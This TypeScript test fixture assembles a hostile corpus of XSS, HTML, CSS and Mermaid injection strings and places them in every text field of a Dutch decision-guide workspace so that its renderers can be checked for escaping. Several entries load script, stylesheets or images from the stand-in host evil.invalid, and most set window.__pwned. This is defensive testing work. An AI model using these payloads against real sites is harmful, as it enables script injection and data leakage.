import { cleanText } from '../../language/text/clean-text.js';
import { PWN } from '../generation/html/hostile-corpus.js';
import { hostileLabels } from '../generation/mermaid/hostile-labels.js';

/**
 * The one hostile corpus of the security tests: every text an editor could write (by accident or
 * on purpose) that would run script, load something, restyle the page, reconfigure Mermaid or read
 * differently from what it says, if any renderer ever treated it as anything but text. It merges
 * the Mermaid label corpus (test/generation/mermaid/hostile-labels.ts) and the HTML guide's corpus
 * (test/generation/html/hostile-corpus.ts) by importing them, and adds what neither covers.
 *
 * `hostileWorkspace()` puts every entry in every place a `.hrk` file has user text, so the three
 * renderers (preview webview, HTML export, SVG export) can be checked on all of them at once.
 */

export type HostileCategory =
    | 'html'            // tags that would change the page: iframe, a, form, base, meta, link, img
    | 'script'          // <script>, inline and with src
    | 'event-handler'   // onerror / onload / onmouseover / onfocus / ontoggle, and quote break-outs into attributes
    | 'url'             // javascript:, data:, and http(s) URLs carrying markup
    | 'mermaid-directive' // %%{init}%%, front matter, comments
    | 'mermaid-statement' // click lines, newline-injected statements, arrows, keywords, brackets
    | 'mermaid-style'   // classDef / style / linkStyle / class injections
    | 'css'             // </style> break-outs, @import, url()
    | 'embedded-json'   // </script> and <!-- inside the JSON the HTML guide embeds, U+2028/U+2029
    | 'bidi'            // U+202E, U+2066 … (stripped by design)
    | 'control'         // NUL and other control characters, lone surrogates (stripped or replaced by design)
    | 'whitespace'      // line breaks of every kind, tabs, only spaces
    | 'length'          // very long and empty texts
    | 'entity'          // HTML and Mermaid entity codes that must stay literal
    | 'backtick'        // template literals and Mermaid markdown strings
    | 'quote'           // lone and mixed quotes, backslashes
    | 'unicode';        // Dutch diacritics, emoji: must come through unharmed

export interface HostileEntry {
    /** Unique, for test names. */
    id: string;
    category: HostileCategory;
    text: string;
    /** Where the entry comes from: one of the two imported corpora, or this file. */
    from: 'mermaid-labels' | 'html-guide' | 'security';
}

/** Categories of test/generation/mermaid/hostile-labels.ts, by entry name. */
const labelCategories: Record<string, HostileCategory> = {
    'script tag': 'script', 'closing script tag': 'embedded-json', 'img onerror': 'event-handler', 'svg onload': 'event-handler',
    'quotes': 'quote', 'a lone quote': 'quote', 'html entities': 'entity', 'mermaid entities': 'entity',
    'backticks': 'backtick', 'leading backtick': 'backtick',
    'init directive': 'mermaid-directive', 'init directive, single quotes': 'mermaid-directive', 'comment': 'mermaid-directive',
    'front matter': 'mermaid-directive',
    'click': 'mermaid-statement', 'click href': 'mermaid-statement', 'end': 'mermaid-statement', 'graph': 'mermaid-statement',
    'subgraph': 'mermaid-statement', 'triple dash': 'mermaid-statement', 'arrow': 'mermaid-statement',
    'arrow into a node': 'mermaid-statement', 'pipe': 'mermaid-statement', 'pipes': 'mermaid-statement',
    'open bracket': 'mermaid-statement', 'close bracket': 'mermaid-statement', 'open brace': 'mermaid-statement',
    'close brace': 'mermaid-statement', 'open paren': 'mermaid-statement', 'close paren': 'mermaid-statement',
    'triple colon': 'mermaid-statement', 'semicolon': 'mermaid-statement', 'hash': 'mermaid-statement', 'percent': 'mermaid-statement',
    'style': 'mermaid-style', 'style trap': 'mermaid-style', 'classDef': 'mermaid-style', 'class': 'mermaid-style', 'linkStyle': 'mermaid-style',
    'ampersand': 'entity', 'backslash': 'quote', 'line break tag as text': 'html',
    'dutch diacritics': 'unicode', 'emoji': 'unicode', 'bidi overrides': 'bidi', 'control characters': 'control',
    'lone surrogate': 'control', 'newlines': 'whitespace', 'tabs': 'whitespace', 'javascript url': 'url',
    'empty': 'length', 'only spaces': 'length',
    '5 000 characters of words': 'length', '5 000 characters without a space': 'length'
};

/** Categories of the HTML guide's `PWN` texts. */
const pwnCategories: Record<keyof typeof PWN, HostileCategory> = {
    script: 'script', img: 'event-handler', breakout: 'embedded-json', javascriptUrl: 'url', init: 'mermaid-directive',
    attribute: 'event-handler', style: 'css', backticks: 'backtick', bidi: 'bidi', entities: 'entity', mermaid: 'mermaid-statement',
    svg: 'event-handler'
};

/** What neither imported corpus has. Payloads set `window.__pwned` (or call alert) if they ever run. */
const added: ReadonlyArray<readonly [id: string, category: HostileCategory, text: string]> = [
    ['iframe', 'html', '<iframe src="javascript:window.__pwned=1"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
    ['anchor', 'html', '<a href="javascript:window.__pwned=1">klik hier</a>'],
    ['base and form', 'html', '<base href="https://evil.invalid/"><form action="https://evil.invalid/"><button>Verstuur</button></form>'],
    ['meta refresh', 'html', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">'],
    ['remote stylesheet', 'html', '<link rel="stylesheet" href="https://evil.invalid/x.css">'],
    ['remote image', 'html', '<img src="https://evil.invalid/pixel.png" width=1 height=1>'],
    ['object and embed', 'html', '<object data="https://evil.invalid/x.swf"></object><embed src="https://evil.invalid/y">'],
    ['script src', 'script', '<script src="https://evil.invalid/x.js"></script>'],
    ['context break-outs', 'script', '</title></textarea></noscript></template></style><script>window.__pwned=1</script>'],
    ['body onload', 'event-handler', '<body onload="window.__pwned=1">'],
    ['details ontoggle', 'event-handler', '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>'],
    ['single-quote attribute break-out', 'event-handler', "' onfocus='window.__pwned=1' autofocus tabindex='1"],
    ['unquoted attribute break-out', 'event-handler', 'x onmouseover=window.__pwned=1 style=position:fixed;inset:0'],
    ['mixed-case javascript url', 'url', ' JaVaScRiPt:window.__pwned=1//'],
    ['data url', 'url', 'data:text/html,<script>window.__pwned=1</script>'],
    ['https url with markup', 'url', 'https://evil.invalid/pad?q="><script>window.__pwned=1</script>'],
    ['click call', 'mermaid-statement', 'click n0 call window.__pwned()'],
    ['newline-injected click', 'mermaid-statement', 'a"]\n    n0 --> n1\n    click n1 href "javascript:window.__pwned=1"\n    n1["b'],
    ['newline-injected classDef', 'mermaid-style', '"]\nclassDef kwaad fill:url(https://evil.invalid/a.png)\nclass n0 kwaad\n%%'],
    ['style with url', 'mermaid-style', 'style n0 fill:#f00,background:url(https://evil.invalid/b.png)'],
    ['style break-out', 'css', '</style><style>*{display:none!important}body{background:url(https://evil.invalid/c.png)}</style>'],
    ['css import', 'css', '@import url(https://evil.invalid/d.css); x{}'],
    ['comment and script in JSON', 'embedded-json', '<!--<script>window.__pwned=1</script>'],
    ['comment markers', 'embedded-json', '--> <!-- <![CDATA[ ]]>'],
    ['line and paragraph separators', 'embedded-json', 'regel\u2028scheiding\u2029alinea'],
    ['bidi isolates', 'bidi', 'naam.\u2066gpj\u2069.exe \u202Bembed\u202C \u200Fmerk\u061C'],
    ['NUL', 'control', 'voor\u0000na'],
    ['double-encoded entities', 'entity', '&amp;lt;script&amp;gt; &#x26;lt; &#0000060;'],
    ['template literal', 'backtick', '${window.__pwned=1}`${alert(1)}`'],
    ['zero width', 'unicode', 'nul\u200Bbreedte\u200Dverbinder\uFEFFbom'],
    ['prototype words', 'unicode', '__proto__ constructor prototype toString']
];

function build(): HostileEntry[] {
    const entries: HostileEntry[] = [
        ...hostileLabels.map(([name, text]): HostileEntry => {
            const category = labelCategories[name];
            if (!category) throw new Error(`hostile-labels.ts has a new entry without a category here: ${name}`);
            return { id: name, category, text, from: 'mermaid-labels' };
        }),
        ...(Object.keys(PWN) as Array<keyof typeof PWN>).map((key): HostileEntry => ({
            id: `guide: ${key}`, category: pwnCategories[key], text: PWN[key], from: 'html-guide'
        })),
        ...added.map(([id, category, text]): HostileEntry => ({ id, category, text, from: 'security' }))
    ];
    // Texts are used as scale values, answers and scenario names, which must be unique.
    const seen = new Set<string>();
    return entries.filter(e => !seen.has(e.text) && seen.add(e.text));
}

export const hostileCorpus: readonly HostileEntry[] = build();

/**
 * Names are identifiers in this language, so they cannot carry markup; these are the ones that
 * still bite: JavaScript's own property names (objects used as maps), Mermaid keywords (ids) and
 * names with diacritics.
 */
export const hostileNames: readonly string[] = [
    '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'end', 'graph', 'subgraph',
    'style', 'classDef', 'click', 'class', 'default', 'script', 'Coöperatie', 'ÿÀØ_'
];

// ---------------------------------------------------------------------------------------------
// What a reader should see

/** A diagram label is cut after this many characters (escape.ts DEFAULT_MAX_LENGTH) and ends with `…`. */
export const DIAGRAM_MAX_LENGTH = 1_000;

/**
 * What a reader sees of a text, by design: bidi embeddings/overrides/isolates and marks (U+061C,
 * U+200E/F, U+202A–E, U+2066–9) and control characters (U+0000–0008, U+000E–001F, U+007F–009F
 * except U+0085) are removed; every line break (CR, CRLF, VT, FF, NEL, U+2028, U+2029) becomes a
 * line break and a tab a space; a lone surrogate becomes U+FFFD. Everything else is shown as written.
 */
export function shown(text: string): string {
    return cleanText(text);
}

/** For comparing with wrapped text: all whitespace removed (labels are wrapped at spaces and cut). */
export function squash(text: string): string {
    return text.replace(/\s/g, '');
}

/** The part of a text a diagram label must show: all of it, or the part before the cut. */
export function diagramPart(text: string): string {
    const chars = Array.from(shown(text));
    return squash(chars.length < DIAGRAM_MAX_LENGTH ? chars.join('') : chars.slice(0, DIAGRAM_MAX_LENGTH - 100).join(''));
}

// ---------------------------------------------------------------------------------------------
// The workspace

/**
 * A `.hrk` STRING for any text: `\` and `"` escaped with a backslash (the grammar's STRING), NUL
 * as `\0` (a NUL byte would make the checker read the file as binary). The value converter turns
 * each back into the character.
 */
export function hrkString(text: string): string {
    return `"${text.replace(/[\\"]/g, c => `\\${c}`).replace(/\u0000/g, '\\0')}"`;
}

export interface HostileWorkspace {
    /** File name → text. `bomen.hrk` holds the trees and scenarios, `gids.hrk` everything else. */
    files: Record<string, string>;
    /** Name of the tree whose one question offers every entry as an answer. */
    answersTree: string;
    /** Name of the tree of hostile names. */
    namesTree: string;
    /** Entry index → the name of its tree, typology, chapter, funding rule, stakeholder and characteristic. */
    names(index: number): { tree: string; typology: string; chapter: string; funding: string; stakeholder: string; characteristic: string };
}

/** Whether a text can go in a `/** … *\/` comment (it cannot end the comment). */
const fitsComment = (text: string) => !text.includes('*/') && !/[\r\u2028\u2029\u0085\u000B\u000C]/.test(text);

/**
 * A workspace that checks clean (no errors, no warnings) with every entry of `corpus` in every
 * place a user writes text: tree titles, toelichting and documentation comments, question, step
 * and advice texts, answers (`antwoord "…"`), examples, characteristic titles and scale values,
 * typology titles, values, activities and comparable rooms, funding titles, conditions, `via`,
 * `voorwaarde` and `bron`, stakeholder texts, chapter titles and working groups, scenario names.
 */
export function hostileWorkspace(corpus: readonly HostileEntry[] = hostileCorpus): HostileWorkspace {
    const s = (i: number) => hrkString(corpus[i].text);
    const doc = (i: number, indent = '') => (fitsComment(corpus[i].text) ? `${indent}/** ${corpus[i].text} */\n` : '');
    const names = (i: number) => ({
        tree: `Boom${i}`, typology: `Typologie${i}`, chapter: `Hoofdstuk${i}`, funding: `Geld${i}`, stakeholder: `Partij${i}`, characteristic: `Kenmerk${i}`
    });
    const all = corpus.map((_, i) => i);

    const gids: string[] = [];
    // One scale holds every entry as a value; each entry also titles a characteristic of its own.
    gids.push(`kenmerk Schaal "Schaal" { ${all.map(s).join(', ')} }`);
    for (const i of all) gids.push(`${doc(i)}kenmerk ${names(i).characteristic} ${s(i)} { "x" }`);
    const everyCharacteristic = all.map(i => `${names(i).characteristic} = "x"`).join(' ');
    for (const i of all) {
        const n = names(i);
        gids.push(`${doc(i)}typologie ${n.typology} ${s(i)} {
    Schaal = ${s(i)}
    ${everyCharacteristic}
    activiteiten ${s(i)}, "koffie"
    vergelijkbaar ${s(i)}
    toelichting ${s(i)}
}`);
        gids.push(`${doc(i)}financiering ${n.funding} ${s(i)} {
    termijn ${['incidenteel', 'meerjarig', 'structureel'][i % 3]}
    voor typologie waar Schaal = ${s(i)}
    via ${s(i)}, "gemeente"
    voorwaarde ${s(i)}
    bron ${s(i)}
    geldig tot 2099-12-31
    toelichting ${s(i)}
}`);
        gids.push(`${doc(i)}partij ${n.stakeholder} ${s(i)} {
    betrokken bij ${n.typology}
    rol ${s(i)}
    kracht ${s(i)}
    valkuil ${s(i)}
    toelichting ${s(i)}
}`);
        gids.push(`${doc(i)}hoofdstuk ${n.chapter} ${s(i)} {
    werkgroep ${s(i)}
    toelichting ${s(i)}
}`);
    }
    // Every typology has structural funding (HRK031), and a real link next to the hostile `bron`s.
    gids.push(`financiering Basis "Basisfinanciering" {
    termijn structureel
    voor alle typologieen
    bron "https://example.org/regeling?a=1&b=2"
}`);

    const bomen: string[] = [];
    const answersTree = 'Antwoorden';
    bomen.push(`beslisboom ${answersTree} "Elk antwoord" {
    vraag Keuze "Welke tekst?" {
${all.map(i => `        antwoord ${s(i)} -> A${i}`).join('\n')}
    }
${all.map(i => `    advies A${i} ${s(i)} { voorbeeld ${s(i)} }`).join('\n')}
}`);
    for (const i of all) {
        bomen.push(`scenario ${s(i)} {
    beslisboom ${answersTree}
    Keuze: ${s(i)}
    verwacht A${i}
}`);
    }
    for (const i of all) {
        const n = names(i);
        bomen.push(`${doc(i)}beslisboom ${n.tree} ${s(i)} {
    toelichting ${s(i)}
${doc(i, '    ')}    vraag Vraag ${s(i)} {
        antwoord ${s(i)} -> Stap
        antwoord "anders" -> Advies
        toelichting ${s(i)}
    }
    stap Stap ${s(i)} -> Advies {
        toelichting ${s(i)}
        zie ${n.chapter}
    }
    advies Advies ${s(i)} {
        voorbeeld ${s(i)}
        zie ${n.chapter}
        zie ${n.typology}
        zie ${n.funding}
        typologie ${n.typology}
        toelichting ${s(i)}
    }
}`);
    }

    // Hostile names: a chain of questions named after JavaScript's own properties and Mermaid keywords.
    const namesTree = 'Namen';
    const q = hostileNames;
    const chain = q.map((name, k) => k < q.length - 1
        ? `    vraag ${name} "Vraag ${name}?" {\n        ja -> ${q[k + 1]}\n        nee -> Klaar_${k}\n    }\n    advies Klaar_${k} "Klaar bij ${name}"`
        : `    advies ${name} "Advies ${name}"`);
    bomen.push(`beslisboom ${namesTree} "Namen die JavaScript en Mermaid kennen" {
    start ${q[0]}
${chain.join('\n')}
}
scenario "alle namen" {
    beslisboom ${namesTree}
${q.slice(0, -1).map(name => `    ${name}: ja`).join('\n')}
    verwacht ${q[q.length - 1]}
}`);
    gids.push(...q.map(name => `hoofdstuk ${name} "Hoofdstuk ${name}"`));

    return { files: { 'gids.hrk': gids.join('\n\n') + '\n', 'bomen.hrk': bomen.join('\n\n') + '\n' }, answersTree, namesTree, names };
}
